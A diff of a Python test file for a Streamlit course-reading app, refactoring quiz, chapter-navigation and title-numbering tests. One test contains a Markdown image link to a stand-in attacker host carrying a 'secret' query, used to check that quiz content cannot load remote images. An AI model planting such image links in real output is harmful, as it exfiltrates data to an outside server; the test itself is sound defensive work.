@@ -78,9 +78,14 @@ def contents(at: AppTest):
     return at.radio(key="chapter")
 
 
+def shown(label: str) -> str:
+    """A label as the page shows it (its Markdown escapes removed)."""
+    return re.sub(r"\\(.)", r"\1", label)
+
+
 def reading(at: AppTest) -> str:
     """The title of the chapter (or summary) the reader shows."""
-    return at.main.subheader[0].value
+    return shown(at.main.subheader[0].value)
 
 
 def wait_until_finished(at: AppTest, timeout: float = 30) -> AppTest:
@@ -529,19 +534,27 @@ def open_chapter(at: AppTest, course: str, index: int = 1) -> AppTest:
     return at.run()
 
 
-def test_only_the_chapter_being_read_has_quiz_widgets(page):
+def quizzed(folder: Path, questions: int = 1) -> list[int]:
+    """The chapters of the course in `folder` with at least `questions` quiz questions."""
+    return [i for i in range(1, 20) if list(folder.glob(f"chapter_{i:02d}_*.json"))
+            and len(saved_chapter(folder, i)["quiz"]) >= questions]
+
+
+def test_only_the_chapter_being_read_has_quiz_widgets(page, tmp_path):
     make_course(page, "Volcanoes")
-    keys = {r.key for r in page.main.radio}
-    assert "Volcanoes-1-q1" in keys and "Volcanoes-2-q1" not in keys
-    keys = {r.key for r in open_chapter(page, "Volcanoes", 2).main.radio}
-    assert "Volcanoes-2-q1" in keys and "Volcanoes-1-q1" not in keys
+    first, *_, last = quizzed(tmp_path / "Volcanoes")
+    keys = {r.key for r in open_chapter(page, "Volcanoes", first).main.radio}
+    assert f"Volcanoes-{first}-q1" in keys and f"Volcanoes-{last}-q1" not in keys
+    keys = {r.key for r in open_chapter(page, "Volcanoes", last).main.radio}
+    assert f"Volcanoes-{last}-q1" in keys and f"Volcanoes-{first}-q1" not in keys
 
 
 def test_each_chapter_shows_its_quiz_and_checking_marks_the_answers_and_scores(page, tmp_path):
     make_course(page, "Volcanoes")
-    open_chapter(page, "Volcanoes")
-    quiz = saved_chapter(tmp_path / "Volcanoes")["quiz"]
-    first, second = (page.radio(key=f"Volcanoes-1-q{n}") for n in (1, 2))
+    index = quizzed(tmp_path / "Volcanoes", questions=2)[0]
+    open_chapter(page, "Volcanoes", index)
+    quiz = saved_chapter(tmp_path / "Volcanoes", index)["quiz"]
+    first, second = (page.radio(key=f"Volcanoes-{index}-q{n}") for n in (1, 2))
     assert first.label.startswith("1. ") and quiz[0]["question"] in first.label
     assert len(first.options) == 4 and first.value is None
     first.set_value(quiz[0]["answer"])
@@ -571,8 +584,8 @@ def test_quiz_and_sources_load_no_remote_image(page, tmp_path):
     data.write_text(json.dumps(chapter), encoding="utf-8")
     quiz = open_chapter(page, "Volcanoes").radio(key="Volcanoes-1-q1")
     button(page, "Check answers").click().run()
-    shown = [quiz.label, *quiz.options, texts(page.markdown), texts(page.warning)]
-    assert all("![" not in text for text in shown)
+    rendered = [quiz.label, *quiz.options, texts(page.markdown), texts(page.warning)]
+    assert all("![" not in text for text in rendered)
     assert "[Image: x](https://evil.example/?q=secret)" in texts(page.warning)
 
 
@@ -682,9 +695,9 @@ def test_the_reader_shows_one_chapter_and_moves_to_the_next_and_back(page, tmp_p
     titles = json.loads((tmp_path / "Volcanoes" / "course.json").read_text())["chapters"]
     assert reading(page) == f"1. {titles[0]['title']}"
     assert not [b for b in page.button if b.label.startswith("Previous")]
-    next(b for b in page.button if b.label.startswith("Next: 2. ")).click().run()
+    next(b for b in page.button if shown(b.label).startswith("Next: 2. ")).click().run()
     assert reading(page) == f"2. {titles[1]['title']}" and page.query_params["chapter"] == "2"
-    next(b for b in page.button if b.label.startswith("Previous: 1. ")).click().run()
+    next(b for b in page.button if shown(b.label).startswith("Previous: 1. ")).click().run()
     assert reading(page) == f"1. {titles[0]['title']}"
 
 
@@ -727,9 +740,9 @@ def test_a_chapter_title_with_its_own_number_is_not_numbered_again(page, tmp_pat
     page.run()
     button(page, "Generate course").click().run()
     wait_until_finished(page)
-    shown = [contents(page).options[0], reading(page), page.dataframe[-1].value["Title"][0],
-             *next(s for s in page.selectbox if s.label == "Chapter").options[:1]]
-    assert [label.replace("\\", "") for label in shown] == ["2. How to use bzip2"] * 4
+    labels = [contents(page).options[0], reading(page), page.dataframe[-1].value["Title"][0],
+              *next(s for s in page.selectbox if s.label == "Chapter").options[:1]]
+    assert [shown(label) for label in labels] == ["2. How to use bzip2"] * 4
 
 
 def test_the_table_of_contents_follows_the_chapters_as_they_land(gemini_page, gemini_env):
